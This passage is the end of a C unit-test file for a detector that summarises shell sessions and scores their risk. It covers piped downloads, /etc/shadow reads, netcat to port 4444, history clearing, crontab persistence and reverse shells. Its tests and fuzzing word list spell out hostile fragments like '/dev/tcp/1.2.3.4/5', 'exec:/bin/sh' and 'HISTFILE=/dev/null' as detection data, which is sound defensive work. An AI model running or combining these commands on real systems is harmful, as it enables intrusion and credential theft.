	evs_exec(&e, 382, SHELL_PID, 1000, "/usr/bin/crontab", 0, "crontab", "/tmp/cron.txt", NULL);
	s = evs_summarize(&e);
	assert_reason(s, "/home/alice/.ssh/authorized_keys written by tee");
	assert_reason(s, "crontab changed: crontab /tmp/cron.txt");
	assert_int_equal(s->risk_score, 30);
	evs_free(&e);
}

/* The same events give the same summary, field by field; the scores add up as documented. */
static void test_deterministic(void **state)
{
	struct evs e;
	struct summary a, b;

	(void)state;
	evs_start(&e, "alice");
	evs_exec(&e, 391, SHELL_PID, 1000, "/usr/bin/curl", 0, "curl", "-s", "http://x/i", NULL);
	evs_exec(&e, 392, SHELL_PID, 1000, "/usr/bin/bash", 0, "bash", NULL);
	evs_disk(&e, 393, "cat", "/etc/shadow", O_RDONLY, 3);
	evs_net(&e, 394, "nc", "198.51.100.7", 4444, 0);
	evs_print(&e, "$ history -c\r\n");
	evs_end(&e, 0);
	assert_int_equal(summary_builtin(e.cev, e.n, &a), 0);
	assert_int_equal(summary_builtin(e.cev, e.n, &b), 0);
	assert_string_equal(a.title, b.title);
	assert_string_equal(a.short_description, b.short_description);
	assert_string_equal(a.detailed_description, b.detailed_description);
	assert_int_equal(a.risk_level, b.risk_level);
	assert_int_equal(a.risk_score, b.risk_score);
	assert_int_equal(a.needs_review, b.needs_review);
	assert_int_equal(a.n_risk_reasons, b.n_risk_reasons);
	for (size_t i = 0; i < a.n_risk_reasons; i++)
		assert_string_equal(a.risk_reasons[i], b.risk_reasons[i]);
	assert_int_equal(a.n_commands_of_interest, b.n_commands_of_interest);
	for (size_t i = 0; i < a.n_commands_of_interest; i++)
		assert_string_equal(a.commands_of_interest[i], b.commands_of_interest[i]);
	/* download 50 + shadow 50 + history 40 + port 15: capped */
	assert_int_equal(a.risk_score, 100);
	assert_int_equal(a.risk_level, SUMMARY_RISK_CRITICAL);
	/* heaviest first */
	assert_non_null(strstr(a.risk_reasons[0], "download piped to a shell"));
	summary_clear(&a);
	summary_clear(&b);
	evs_free(&e);
}

/* Random events made of the words the detectors look for: no crash, bounded, repeatable. */
static void test_random_events(void **state)
{
	static const char *const words[] = {
	    "curl",
	    "wget",
	    "sh",
	    "bash",
	    "-c",
	    "|",
	    "base64",
	    "-d",
	    "/dev/tcp/1.2.3.4/5",
	    "nc",
	    "-e",
	    "socat",
	    "exec:/bin/sh",
	    "python3",
	    "import socket,pty",
	    "exec(b64decode(x))",
	    "/etc/shadow",
	    "/root/.ssh/id_rsa",
	    "/home/a/.bash_history",
	    "history -c",
	    "sudo",
	    "chmod",
	    "u+s",
	    "4755",
	    "-O-",
	    "-o",
	    "",
	    "x",
	    "mkfifo",
	    "$(curl x)",
	    "\xc2\x94",
	    "/tmp/x",
	    "./x",
	    "usermod",
	    "-aG",
	    "crontab",
	    "HISTFILE=/dev/null",
	    "--",
	    "env",
	};
	struct evs e;
	struct summary a, b;
	uint32_t seed = 99;

	(void)state;
	for (int round = 0; round < 20; round++) {
		evs_start(&e, "alice");
		while (e.n < EVS_MAX - 2) {
			const char *w[6];
			uint32_t r;

			for (int i = 0; i < 6; i++) {
				seed = seed * 1103515245 + 12345;
				w[i] = words[(seed >> 16) % (sizeof(words) / sizeof(words[0]))];
			}
			r = seed >> 8;
			switch (r % 5) {
			case 0:
				evs_exec(&e, 100 + r % 50, 100 + (r >> 8) % 50, r % 2 ? 0 : 1000,
					 w[0][0] ? w[0] : "/bin/x", r % 7 ? 0 : -ENOEXEC, w[1],
					 w[2], w[3], w[4], w[5], NULL);
				break;
			case 1:
				evs_disk(&e, 100 + r % 50, w[0], w[1], r % 3 ? O_RDONLY : O_WRONLY,
					 r % 11 ? 3 : -EACCES);
				break;
			case 2:
				evs_net(&e, 100 + r % 50, w[0],
					r % 2 ? "198.51.100.7" : "127.0.0.1", (r >> 4) % 70000, 0);
				break;
			case 3:
				evs_print(&e, w[0]);
				break;
			default:
				evs_wait(&e, (r >> 3) % 3000);
				break;
			}
		}
		evs_end(&e, 0);
		assert_int_equal(summary_builtin(e.cev, e.n, &a), 0);
		assert_int_equal(summary_builtin(e.cev, e.n, &b), 0);
		assert_true(a.risk_score <= 100);
		assert_true(a.n_risk_reasons <= 24);
		assert_true(a.n_commands_of_interest <= 20);
		assert_string_equal(a.title, b.title);
		assert_string_equal(a.detailed_description, b.detailed_description);
		assert_int_equal(a.risk_score, b.risk_score);
		summary_clear(&a);
		summary_clear(&b);
		evs_free(&e);
	}
}

static void test_empty_and_misuse(void **state)
{
	struct summary s;
	enum summary_risk r;

	(void)state;
	assert_int_equal(summary_builtin(NULL, 0, &s), 0);
	assert_int_equal(s.risk_level, SUMMARY_RISK_LOW);
	assert_non_null(s.title);
	summary_clear(&s);
	summary_clear(&s); /* twice: cleared means empty */
	summary_clear(NULL);
	assert_int_equal(summary_builtin(NULL, 3, &s), -EINVAL);
	assert_int_equal(summary_builtin(NULL, 0, NULL), -EINVAL);

	assert_string_equal(summary_risk_name(SUMMARY_RISK_LOW), "low");
	assert_string_equal(summary_risk_name(SUMMARY_RISK_MEDIUM), "medium");
	assert_string_equal(summary_risk_name(SUMMARY_RISK_HIGH), "high");
	assert_string_equal(summary_risk_name(SUMMARY_RISK_CRITICAL), "critical");
	assert_string_equal(summary_risk_name((enum summary_risk)9), "unknown");
	for (int i = SUMMARY_RISK_LOW; i <= SUMMARY_RISK_CRITICAL; i++) {
		assert_int_equal(summary_risk_parse(summary_risk_name((enum summary_risk)i), &r),
				 0);
		assert_int_equal(r, i);
	}
	assert_int_equal(summary_risk_parse("HIGH", &r), 0);
	assert_int_equal(r, SUMMARY_RISK_HIGH);
	assert_int_equal(summary_risk_parse("severe", &r), -EINVAL);
	assert_int_equal(summary_risk_parse("", &r), -EINVAL);
	assert_int_equal(summary_risk_parse(NULL, &r), -EINVAL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_benign_session),
	    cmocka_unit_test(test_download_piped_to_shell),
	    cmocka_unit_test(test_download_piped_to_sudo_shell),
	    cmocka_unit_test(test_download_through_tee),
	    cmocka_unit_test(test_sequential_commands_are_not_pipelines),
	    cmocka_unit_test(test_download_to_file_is_not_piped),
	    cmocka_unit_test(test_download_command_substitution),
	    cmocka_unit_test(test_download_in_script),
	    cmocka_unit_test(test_download_typed),
	    cmocka_unit_test(test_downloaded_file_executed),
	    cmocka_unit_test(test_decode_piped_to_shell),
	    cmocka_unit_test(test_decode_interpreter),
	    cmocka_unit_test(test_decoded_file_executed),
	    cmocka_unit_test(test_credentials),
	    cmocka_unit_test(test_shadow),
	    cmocka_unit_test(test_privilege_changes),
	    cmocka_unit_test(test_history_clearing),
	    cmocka_unit_test(test_reverse_shell_dev_tcp),
	    cmocka_unit_test(test_reverse_shell_netcat_socat),
	    cmocka_unit_test(test_reverse_shell_interpreter),
	    cmocka_unit_test(test_reverse_shell_fifo),
	    cmocka_unit_test(test_reverse_shell_connected_then_shell),
	    cmocka_unit_test(test_unusual_ports),
	    cmocka_unit_test(test_port_scan),
	    cmocka_unit_test(test_persistence),
	    cmocka_unit_test(test_deterministic),
	    cmocka_unit_test(test_random_events),
	    cmocka_unit_test(test_empty_and_misuse),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
